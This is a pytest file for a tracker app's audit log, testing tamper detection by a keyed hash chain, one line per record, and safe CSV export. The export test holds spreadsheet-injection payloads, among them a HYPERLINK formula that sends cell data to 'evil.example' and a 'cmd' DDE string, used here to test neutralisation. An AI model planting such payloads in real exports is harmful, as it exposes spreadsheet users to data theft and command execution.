"""The audit log's keyed chain and anchor (every kind of tampering is found), one line per record whatever
characters a name holds, a log that cannot be written never stops a sign-in, and the audit CSV is safe to
open in a spreadsheet."""

from __future__ import annotations

import errno
import hashlib
import hmac
import json
import os

import polars as pl
import pytest

from tracker import audit, auth, exports

PW = "correct-horse-1"
NAMES = ["alice", "bob", "carol", "dave", "erin"]


@pytest.fixture
def log_env(tmp_path, monkeypatch):
    """An audit file under a data dir, the secret key (and so the anchor) outside it."""
    monkeypatch.setenv("TRACKER_AUDIT_FILE", str(tmp_path / "data" / "audit" / "audit.jsonl"))
    monkeypatch.setenv("TRACKER_SECRET_KEY_FILE", str(tmp_path / "secret" / "person_key.secret"))
    monkeypatch.delenv("TRACKER_SECRET_KEY", raising=False)
    monkeypatch.delenv("TRACKER_AUDIT_ANCHOR_FILE", raising=False)
    return tmp_path


@pytest.fixture
def five(log_env):
    for i, who in enumerate(NAMES):
        assert audit.log(who, "login", "54", f"n{i}") is True
    assert audit.verify() is None
    return log_env


def raw_lines() -> list[bytes]:
    return audit.path().read_bytes().split(b"\n")[:-1]


def put(lines: list[bytes]) -> None:
    audit.path().write_bytes(b"".join(x + b"\n" for x in lines))


def edited(line: bytes, **change) -> bytes:
    rec = json.loads(line) | change
    return json.dumps(rec, ensure_ascii=False).encode()


def resigned(lines: list[bytes], key: bytes) -> list[bytes]:
    """The lines with their MACs made again under another key: a rewrite by someone without the key."""
    out, prev = [], ""
    for line in lines:
        rec = json.loads(line)
        rec.pop("mac")
        rec["mac"] = hmac.new(key, prev.encode() + b"\n" + audit._canonical(rec), hashlib.sha256).hexdigest()
        prev = rec["mac"]
        out.append(json.dumps(rec, ensure_ascii=False).encode())
    return out


def legacy(recs: list[dict]) -> list[bytes]:
    """Lines in the old unkeyed form: each holds the SHA-256 of the line before."""
    out, prev = [], ""
    for r in recs:
        line = json.dumps(r | {"prev": prev}, ensure_ascii=False).encode()
        out.append(line)
        prev = hashlib.sha256(line).hexdigest()
    return out


def old_recs(n: int) -> list[dict]:
    return [{"ts": f"2026-01-0{i + 1}T08:00:00+00:00", "who": f"old{i}", "action": "login", "area": "", "detail": ""} for i in range(n)]


# each case: what is done to the five-line log, and the line verify must name (6 = a line cut off the end)
TAMPERING = {
    "edit first line": (lambda ls: put([edited(ls[0], who="mallory")] + ls[1:]), 1),
    "edit middle line": (lambda ls: put(ls[:2] + [edited(ls[2], action="logout")] + ls[3:]), 3),
    "edit last line": (lambda ls: put(ls[:4] + [edited(ls[4], detail="changed")]), 5),
    "edit last line, forged mac": (lambda ls: put(ls[:4] + resigned(ls, b"guess")[4:]), 5),
    "delete last line": (lambda ls: put(ls[:4]), 5),
    "delete two trailing lines": (lambda ls: put(ls[:3]), 4),
    "delete middle line": (lambda ls: put(ls[:2] + ls[3:]), 3),
    "delete first line": (lambda ls: put(ls[1:]), 1),
    "insert a copied line": (lambda ls: put(ls[:3] + [ls[1]] + ls[3:]), 4),
    "append a copied line": (lambda ls: put(ls + [ls[0]]), 6),
    "append an unkeyed line": (lambda ls: put(ls + legacy(old_recs(1))), 6),
    "insert a blank line": (lambda ls: put(ls[:2] + [b""] + ls[2:]), 3),
    "insert garbage": (lambda ls: put(ls[:1] + [b"\xff\xfe not json"] + ls[1:]), 2),
    "swap two lines": (lambda ls: put([ls[0], ls[2], ls[1]] + ls[3:]), 2),
    "rewrite without the key": (lambda ls: put(resigned([edited(x, who="nobody") for x in ls], b"not-the-key")), 1),
    "rewrite in the old unkeyed form": (lambda ls: put(legacy(old_recs(5))), 1),
    "truncate to empty": (lambda ls: audit.path().write_bytes(b""), 1),
    "delete the log": (lambda ls: audit.path().unlink(), 1),
    "delete the anchor": (lambda ls: audit.anchor_path().unlink(), 1),
    "damage the anchor": (lambda ls: audit.anchor_path().write_text("{oops"), 1),
    "roll the anchor back": (
        lambda ls: audit.anchor_path().write_text(json.dumps(json.loads(audit.anchor_path().read_text()) | {"count": 4})),
        5,
    ),
}


@pytest.mark.parametrize("case", list(TAMPERING))
def test_every_kind_of_tampering_is_found(five, case):
    change, line = TAMPERING[case]
    change(raw_lines())
    chain = audit.status()
    assert audit.verify() == line == chain.first_bad, chain
    assert audit.describe(chain, "zh").startswith(f"日志自第 {line} 行起被改动或删除过")
    audit.read()  # reading a tampered log never raises


def test_the_anchor_sits_outside_the_data_dir_and_follows_each_line(five):
    a = audit.anchor_path()
    assert (five / "secret") in a.parents and (five / "data") not in a.parents
    assert json.loads(a.read_text())["count"] == 5
    assert audit.head() == (5, json.loads(raw_lines()[-1])["mac"]) == (5, json.loads(a.read_text())["mac"])
    assert audit.confirms(*audit.head()) and audit.confirms(0, "")
    count, mac = audit.head()
    put(raw_lines()[:-1])
    assert not audit.confirms(count, mac)


def test_the_anchor_path_is_a_setting(log_env, monkeypatch):
    monkeypatch.setenv("TRACKER_AUDIT_ANCHOR_FILE", str(log_env / "elsewhere" / "anchor.json"))
    assert audit.log("a", "login")
    assert json.loads((log_env / "elsewhere" / "anchor.json").read_text())["count"] == 1
    assert audit.verify() is None


def test_new_lines_do_not_heal_a_cut_log(five):
    put(raw_lines()[:3])
    assert audit.log("next", "login")
    assert audit.verify() == 4  # the new line links to the removed one's MAC, as the anchor says


def test_a_lost_anchor_stays_visible(five):
    audit.anchor_path().unlink()
    assert audit.log("next", "login")  # logging goes on, the anchor starts again
    chain = audit.status()
    assert (chain.first_bad, chain.reason) == (1, "anchor_reset")


def test_an_anchor_that_could_not_be_written_shows(five, monkeypatch, capsys):
    def refuse(*a):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(audit, "_write_anchor", refuse)
    assert audit.log("f", "login") is False
    assert "audit: line not written" in capsys.readouterr().err
    assert (audit.verify(), audit.status().reason) == (6, "unanchored")


def test_an_old_unkeyed_log_is_read_and_carried_on(log_env):
    audit.path().parent.mkdir(parents=True)
    put(legacy(old_recs(3)))
    chain = audit.status()
    assert (chain.first_bad, chain.legacy, chain.keyed_from) == (None, 3, None)
    assert "旧格式" in audit.describe(chain, "zh")
    assert audit.log("new", "login") and audit.log("new", "logout")
    chain = audit.status()
    assert (chain.first_bad, chain.legacy, chain.keyed_from, chain.lines) == (None, 3, 4, 5)
    assert "自第 4 行起为密钥链" in audit.describe(chain, "zh")
    assert [r["who"] for r in audit.read()] == ["old0", "old1", "old2", "new", "new"]
    lines = raw_lines()
    put(lines[:2] + [edited(lines[2], who="x")] + lines[3:])  # the last old line: the first keyed line catches it
    assert audit.verify() == 4
    put([edited(lines[0], who="x")] + lines[1:])
    assert audit.verify() == 2
    put(lines)
    assert audit.verify() is None


SEPARATORS = ["\u2028", "\u0085", "\u2029", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x00", "\u202e", "\ufeff", "\ud800", "\U000e0041"]


@pytest.mark.parametrize("sep", SEPARATORS, ids=[f"U+{ord(s[0]):04X}" for s in SEPARATORS])
def test_separators_in_a_name_keep_one_line_per_record(log_env, sep):
    assert audit.log("before", "login")
    assert audit.log(f"x{sep}y", "login_failed", detail=f"d{sep}e")
    assert audit.log("after", "login")
    text = audit.path().read_bytes().decode("utf-8")
    assert len(text.splitlines()) == 3 == text.count("\n")  # even str.splitlines sees three lines
    assert text.isascii() or all(c.isprintable() or c == "\n" for c in text)
    rows = audit.read()
    assert [r["who"] for r in rows] == ["before", f"x{sep}y", "after"]
    assert rows[1]["detail"] == f"d{sep}e" and not any(r["damaged"] for r in rows)
    assert audit.verify() is None
    shown = audit.table(rows, "zh")["用户"].to_list()[1]
    assert shown.isprintable() and shown.startswith("x\\u")


def test_chinese_stays_readable_in_the_file(log_env):
    assert audit.log("次仁", "login", detail="昌都市")
    assert "次仁" in audit.path().read_text(encoding="utf-8")
    assert '"action": "login"' in audit.path().read_text(encoding="utf-8")


def test_damaged_lines_are_shown_not_fatal(five):
    lines = raw_lines()
    put(lines[:2] + [b"\xff\xfe{not json", b'{"who": "a\xe2\x80\xa8b"', b"[1, 2]"] + lines[2:])
    rows = audit.read()
    assert len(rows) == 8 and [r["line"] for r in rows if r["damaged"]] == [3, 4, 5]
    assert {r["action"] for r in rows if r["damaged"]} == {"damaged"}
    assert all(audit.visible(r["detail"]) == r["detail"] for r in rows)
    chain = audit.status()
    assert (chain.first_bad, chain.damaged) == (3, (3, 4, 5))
    audit.table(rows, "en")


def test_a_torn_last_line_stays_a_line_of_its_own(five):
    with open(audit.path(), "ab") as f:
        f.write(b'{"ts": "2026-')  # a write cut short (disk full)
    assert audit.log("next", "login")
    rows = audit.read()
    assert [r["who"] for r in rows][-1] == "next" and rows[5]["damaged"]
    assert audit.verify() == 6


def test_a_read_only_audit_dir_returns_false(log_env, monkeypatch, capsys):
    from tests.fixture import fixture_id

    blocker = log_env / "data"
    blocker.write_text("not a directory")  # as good as a read-only dir, also for root
    assert audit.log("x", "view_records", "54", f"id {fixture_id(1)}") is False
    err = capsys.readouterr().err
    assert "audit: line not written" in err and fixture_id(1) not in err and fixture_id(1)[:6] in err
    assert audit.read() == [] and audit.verify() is None


def test_a_refused_open_or_a_full_disk_returns_false(log_env, monkeypatch, capsys):
    real_open, real_fsync = os.open, os.fsync
    target = str(audit.path())

    def ro_open(p, *a, **kw):
        if str(p) == target:
            raise OSError(errno.EROFS, "Read-only file system")
        return real_open(p, *a, **kw)

    monkeypatch.setattr(os, "open", ro_open)
    assert audit.log("x", "login") is False
    monkeypatch.setattr(os, "open", real_open)

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    assert audit.log("y", "login") is False
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert capsys.readouterr().err.count("audit: line not written") == 2


def test_sign_in_works_when_the_log_cannot_be_written(fx, log_env, monkeypatch):
    monkeypatch.setenv("TRACKER_DEMO", "0")
    monkeypatch.setenv("TRACKER_USERS_FILE", str(log_env / "users.json"))
    monkeypatch.setenv("TRACKER_STORE_URL", f"sqlite:///{log_env / 'state.db'}")
    auth.add_user("lhorong", PW, "staff", "540329")
    auth.THROTTLE.clear()
    (log_env / "data").write_text("not a directory")
    assert auth.login("lhorong", PW).username == "lhorong"
    with pytest.raises(auth.LoginError):
        auth.login("lhorong", "wrong-password")
    auth.THROTTLE.clear()


@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]
)
def test_injected_login_names_are_neutralised_in_the_csv(log_env, payload):
    assert audit.log(payload, "login_failed", detail=payload)
    data = exports.csv_bytes(audit.table(audit.read(), "zh"))
    df = pl.read_csv(data.removeprefix("\ufeff".encode()), infer_schema=False)
    for col in ("用户", "详情"):
        cell = df[col][0]
        assert cell[0] not in "=+-@\t\r" and cell.removeprefix("'") == audit.visible(payload)


def test_action_names_and_beijing_time():
    assert audit.action_label("login_failed", "zh") == "登录失败" and audit.action_label("export", "en") == "Export / download"
    assert audit.action_label("something_new", "zh") == "something_new"
    assert audit.beijing("2026-11-23T01:38:05+00:00") == "2026-11-23 09:38"
    assert audit.beijing("2026-11-23T09:38:59+08:00") == "2026-11-23 09:38"
    assert audit.beijing("garbage\u2028") == "garbage\\u2028"


def test_every_logged_action_has_a_name():
    import re

    from tests.conftest import REPO

    codes = set()
    for p in [*REPO.glob("tracker/*.py"), *REPO.glob("app_pages/*.py"), REPO / "app.py"]:
        text = p.read_text(encoding="utf-8")
        codes |= set(re.findall(r"audit\.log\([^,]+,\s*\"([a-z_]+)\"", text))
        codes |= set(re.findall(r"audit_view\(\"([a-z_]+)\"", text))
        codes |= set(re.findall(r"_done\([^\n]*?\"(user_[a-z]+)\"", text))
    codes |= {f"user_{c}" for c in ("disable", "enable")}
    assert codes and codes <= set(audit.ACTIONS), codes - set(audit.ACTIONS)


def test_audit_page_with_hostile_names_and_a_damaged_line(fx, log_env, monkeypatch):
    from tests.test_auth import app_as

    monkeypatch.setenv("TRACKER_DEMO", "0")
    monkeypatch.setenv("TRACKER_USERS_FILE", str(log_env / "users.json"))
    monkeypatch.setenv("TRACKER_STORE_URL", f"sqlite:///{log_env / 'state.db'}")
    auth.add_user("root", PW, "admin", "54")
    auth.THROTTLE.clear()
    at = app_as(None)
    for name in ["a\u2028b", "c\u0085d", "e\u2029f", "g\rh", '=HYPERLINK("http://x","y")']:
        at.text_input(key="login_user").input(name)
        at.text_input(key="login_pw").input("wrong-password")
        at.button[0].click().run()
        assert not at.exception
    auth.THROTTLE.clear()
    at = app_as("root", "audit")
    assert [s.value for s in at.success] == ["日志链完整：未发现改动或删除。"]
    log = at.dataframe[0].value
    assert log["用户"].tolist()[:5] == ['=HYPERLINK("http://x","y")', "g\\u000dh", "e\\u2029f", "c\\u0085d", "a\\u2028b"]
    assert set(log["操作名称"].tolist()[:5]) == {"登录失败"} and "操作" not in log.columns  # names on screen, codes in the CSV
    assert all(len(t) == 16 and t[4] == "-" and t[10] == " " for t in log["时间"].tolist())
    n = len(audit.read())
    with open(audit.path(), "ab") as f:
        f.write(b"\xe2\x80\xa8 a raw separator line\n")
    at = app_as("root", "audit")
    assert not at.exception and at.error[0].value.startswith(f"日志自第 {n + 1} 行起被改动或删除过")
    assert at.dataframe[0].value["操作名称"].tolist()[0] == "损坏的行"
    auth.THROTTLE.clear()
